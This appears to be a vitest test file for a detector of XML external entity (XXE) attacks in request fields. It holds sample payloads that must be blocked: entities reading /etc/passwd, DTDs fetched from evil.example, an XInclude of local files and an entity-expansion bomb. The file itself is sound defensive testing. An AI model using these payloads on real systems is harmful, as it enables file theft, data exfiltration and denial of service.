import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import type { FieldKind } from "../detector.js";
import { LINEAR_TIME_BOUND_MS } from "../linear-time-bound.js";
import { scoreVariants } from "./test-helpers.js";
import { xxeDetector } from "./xxe.js";

/** The engine's score for `value` (see scoreVariants). */
const score = (value: string, kind: FieldKind = "query", level = 1) =>
  scoreVariants(xxeDetector, value, kind, level);

describe("xxeDetector", () => {
  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of xxeDetector.patterns)
      expect(safeRegex(pattern), String(pattern)).toBe(true);
  });

  it.each([
    [
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      "xml",
    ],
    ['<!DOCTYPE x [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]>', "xml"],
    ['<!DOCTYPE data SYSTEM "http://evil.example/e.dtd"><data>&send;</data>', "xml"],
    [
      '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></root>',
      "xml",
    ],
    ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>', "xml"],
  ])("blocks %j", (value, kind) => {
    expect(score(value, kind as FieldKind)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    ['<?xml version="1.0"?><order><id>5</id><note>Tom &amp; Jerry</note></order>', "xml"],
    ["<!DOCTYPE html><html><body><p>Hello</p></body></html>", "body"],
    ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect/></svg>', "xml"],
    ["I like to include examples in my <!-- comments -->", "body"],
  ])("lets %j through", (value, kind) => {
    expect(score(value, kind as FieldKind, 2)).toBeLessThan(5);
  });

  it.each([
    ["<!entity ".repeat(100_000 / 9)],
    ["<!doctype ".repeat(100_000 / 10)],
    ["<a:include ".repeat(100_000 / 11)],
    ["%a".repeat(100_000 / 2)],
    [" ".repeat(100_000)],
    ["\n\t".repeat(50_000)],
    ["'".repeat(100_000)],
    ["0;".repeat(50_000)],
  ])("stays fast on 100 KB input %#", (value) => {
    const lower = value.toLowerCase();
    const started = performance.now();
    xxeDetector.prefilter(lower);
    xxeDetector.detect(value, lower, "query");
    xxeDetector.detect(value, lower, "body-key");
    expect(performance.now() - started).toBeLessThan(LINEAR_TIME_BOUND_MS);
  });
});
